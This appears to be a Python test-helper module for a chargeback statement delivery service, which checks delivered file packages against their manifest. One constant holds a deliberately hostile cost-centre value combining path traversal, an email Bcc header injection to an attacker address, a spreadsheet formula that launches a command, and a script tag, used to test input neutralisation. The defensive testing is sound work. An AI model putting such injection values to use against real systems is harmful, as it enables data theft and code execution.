"""What the tests of delivery do again and again: make a month's statements, say who gets them, prove what arrived."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from typing import Any

import yaml
from tests.unit.chargeback.published_version import bill, publish_version

from finops.chargeback import service as chargeback
from finops.core.periods import BillingPeriod
from finops.core.settings import Settings
from finops.core.spreadsheet import neutralise
from finops.delivery import service

JANUARY = BillingPeriod(2025, 1)
HOSTILE = "../../company\r\nBcc: thief@evil.example\n=cmd|' /C calc'!A0 🤖/\"<script>"
FILES = {"schedules.csv", "statement.csv", "statement.html", "statement.pdf", "statement.xlsx"}


def restate(settings: Settings, amount: str) -> None:
    build = f"build-{amount}"
    own = [bill("2025-01-03", amount), bill("2025-01-04", "7", cost_center=HOSTILE, service_name="Secret Project")]
    publish_version(settings, [*own, bill("2025-01-05", "3", cost_center="(unallocated)")], build_id=build)
    chargeback.publish(settings, JANUARY)


def configure(settings: Settings, content: dict[str, Any]) -> None:
    text = yaml.safe_dump(content, allow_unicode=True)
    (settings.configuration_dir / "delivery.yml").write_text(text, encoding="utf-8")


def results(report: service.DeliveryReport) -> dict[str, str]:
    return {each.target: each.result.value for each in report.outcomes}


def prove_package(files: dict[str, bytes], cost_center: str | None) -> dict[str, Any]:
    """Hold what a target got to its manifest: those files and no others, and of a cost centre its rows alone."""
    manifest = json.loads(files["manifest.json"])
    assert manifest["cost_center"] == cost_center
    listed = {each["path"]: each for each in manifest["files"]}
    assert set(listed) == set(files) - {"manifest.json"} == FILES
    for name, entry in listed.items():
        assert hashlib.sha256(files[name]).hexdigest() == entry["sha256"]
        assert len(files[name]) == entry["size"]
    if cost_center is not None:
        rows = list(csv.DictReader(io.StringIO(files["statement.csv"].decode(), newline="")))
        assert {row["cost_center"] for row in rows} == {neutralise(cost_center)}
    return manifest
